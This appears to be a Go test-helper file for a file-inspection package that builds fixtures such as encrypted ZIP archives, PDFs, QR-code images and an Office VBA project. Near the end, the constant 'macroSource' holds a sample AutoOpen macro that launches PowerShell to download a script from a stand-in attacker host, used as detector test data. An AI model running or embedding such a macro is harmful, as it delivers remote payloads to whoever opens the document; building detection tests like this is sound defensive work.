package artefact

import (
	"bytes"
	"compress/flate"
	"compress/zlib"
	"crypto/aes"
	"crypto/hmac"
	"crypto/pbkdf2"
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/png"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"archive/zip"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"
)

// checkReport checks what holds for every report.
func checkReport(tb testing.TB, name string, top *Report) {
	tb.Helper()
	for r := range top.All() {
		if !slices.Contains(Kinds(), r.Kind) {
			tb.Errorf("%s: kind %q of %s", name, r.Kind, r.Path)
		}
		if r.Macros != MacrosNo && r.Macros != MacrosYes && r.Macros != MacrosUnknown {
			tb.Errorf("%s: macros %q of %s", name, r.Macros, r.Path)
		}
		if len(r.Signs) > mostSigns || len(r.Links) > mostLinks || len(r.Codes) > mostCodes || len(r.Warnings) > mostWarnings {
			tb.Errorf("%s: more is kept of %s than the limits", name, r.Path)
		}
		for _, s := range []string{r.Name, r.Path} {
			if !utf8.ValidString(s) {
				tb.Errorf("%s: %q is not UTF-8", name, s)
			}
		}
		for _, s := range r.Signs {
			if !utf8.ValidString(s.Where+s.Detail) || strings.ContainsAny(s.Where+s.Detail, "\n\r\x00") {
				tb.Errorf("%s: the sign %+v is not one line of text", name, s)
			}
		}
	}
}

// member returns the report of a file inside, by its path below the top.
func member(tb testing.TB, r *Report, path string) *Report {
	tb.Helper()
	for one := range r.All() {
		if one.Path == r.Path+"/"+path {
			return one
		}
	}
	var have []string
	for one := range r.All() {
		have = append(have, one.Path)
	}
	tb.Fatalf("%s is not in %v", path, have)
	return nil
}

// zipped packs files, given as name and content in turn.
func zipped(tb testing.TB, files ...string) []byte {
	tb.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i+1 < len(files); i += 2 {
		f, err := w.Create(files[i])
		if err == nil {
			_, err = f.Write([]byte(files[i+1]))
		}
		if err != nil {
			tb.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

// encrypted describes how a member of a ZIP archive is encrypted.
type encrypted struct {
	name, content, password string
	aes                     bool
}

// encryptedZip packs one file with a password, by ZipCrypto or WinZip's AES.
func encryptedZip(tb testing.TB, e encrypted) []byte {
	tb.Helper()
	var packed bytes.Buffer
	d, err := flate.NewWriter(&packed, flate.BestCompression)
	if err == nil {
		_, err = d.Write([]byte(e.content))
	}
	if err == nil {
		err = d.Close()
	}
	if err != nil {
		tb.Fatal(err)
	}
	header := &zip.FileHeader{Name: e.name, Method: zipDeflate, Flags: zipFlagEncrypted, CRC32: crc32.ChecksumIEEE([]byte(e.content)), UncompressedSize64: uint64(len(e.content))}
	body := cryptZip(packed.Bytes(), e.password, byte(header.CRC32>>24))
	if e.aes {
		header.Method, header.CRC32 = zipAES, 0
		header.Extra = []byte{1, 0x99, 7, 0, 2, 0, 'A', 'E', 3, zipDeflate, 0}
		body = cryptAES(tb, packed.Bytes(), e.password)
	}
	header.CompressedSize64 = uint64(len(body))
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateRaw(header)
	if err == nil {
		_, err = f.Write(body)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

// cryptZip encrypts as PKZIP did, written from APPNOTE 6.1 and apart from the reader.
func cryptZip(data []byte, password string, check byte) []byte {
	keys := [3]uint32{305419896, 591751049, 878082192}
	step := func(old uint32, c byte) uint32 { return ^crc32.Update(^old, crc32.IEEETable, []byte{c}) }
	update := func(c byte) {
		keys[0] = step(keys[0], c)
		keys[1] += keys[0] & 255
		keys[1] = keys[1]*134775813 + 1
		keys[2] = step(keys[2], byte(keys[1]>>24))
	}
	for _, c := range []byte(password) {
		update(c)
	}
	out := []byte{}
	for _, c := range append(append([]byte("eleven here"), check), data...) {
		t := uint16(keys[2]) | 2
		out = append(out, c^byte((uint32(t)*uint32(t^1))>>8))
		update(c)
	}
	return out
}

// cryptAES encrypts as WinZip does, with 256 bits.
func cryptAES(tb testing.TB, data []byte, password string) []byte {
	tb.Helper()
	salt := []byte("sixteen bytes it")
	keys, err := pbkdf2.Key(sha1.New, password, salt, 1000, 66)
	if err != nil {
		tb.Fatal(err)
	}
	block, err := aes.NewCipher(keys[:32])
	if err != nil {
		tb.Fatal(err)
	}
	body := slices.Clone(data)
	var pad [16]byte
	for i := range body {
		if i%16 == 0 {
			var counter [16]byte
			binary.LittleEndian.PutUint32(counter[:], uint32(i/16+1))
			block.Encrypt(pad[:], counter[:])
		}
		body[i] ^= pad[i%16]
	}
	mac := hmac.New(sha1.New, keys[32:64])
	mac.Write(body)
	return slices.Concat(salt, keys[64:], body, mac.Sum(nil)[:10])
}

// qrImage draws a QR code with pixels for each module.
func qrImage(tb testing.TB, text string, side int) *image.Gray {
	tb.Helper()
	m, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, side, side, nil)
	if err != nil {
		tb.Fatal(err)
	}
	g := image.NewGray(image.Rect(0, 0, m.GetWidth(), m.GetHeight()))
	for i := range g.Pix {
		if !m.Get(i%m.GetWidth(), i/m.GetWidth()) {
			g.Pix[i] = 255
		}
	}
	return g
}

// pngOf encodes an image.
func pngOf(tb testing.TB, img image.Image) []byte {
	tb.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

// deflated packs with zlib.
func deflated(tb testing.TB, data []byte) string {
	tb.Helper()
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, err := w.Write(data)
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		tb.Fatal(err)
	}
	return b.String()
}

// pdfOf makes a PDF of objects, numbered from 1; the first is the catalogue.
func pdfOf(objects ...string) []byte {
	var b strings.Builder
	b.WriteString("%PDF-1.7\n")
	var at []int
	for i, o := range objects {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	table := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, offset := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", offset)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, table)
	return []byte(b.String())
}

// streamOf makes a stream object.
func streamOf(dict, data string) string {
	return fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", dict, len(data), data)
}

// packVBA packs source into a container of MS-OVBA, of letters alone.
func packVBA(source string) string {
	var out []byte
	out = append(out, 1)
	for len(source) > 0 {
		const each = 3000
		part := source[:min(len(source), each)]
		source = source[len(part):]
		var chunk []byte
		for i, c := range []byte(part) {
			if i%8 == 0 {
				chunk = append(chunk, 0)
			}
			chunk = append(chunk, c)
		}
		out = binary.LittleEndian.AppendUint16(out, uint16(len(chunk)+2-3)|0xb000)
		out = append(out, chunk...)
	}
	return string(out)
}

// macroSource is what macros of the tests do.
const macroSource = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Set s = CreateObject(\"WScript.Shell\")\r\n" +
	"  s.Run \"powershell -c iwr https://stage.evil.example/a.ps1\"\r\nEnd Sub\r\n"

// vbaFile is a VBA project.
func vbaFile() []byte {
	return compoundOf("VBA/_VBA_PROJECT", "\xcc\x61", "VBA/dir", "x", "VBA/ThisDocument", "compiled code"+packVBA(macroSource))
}
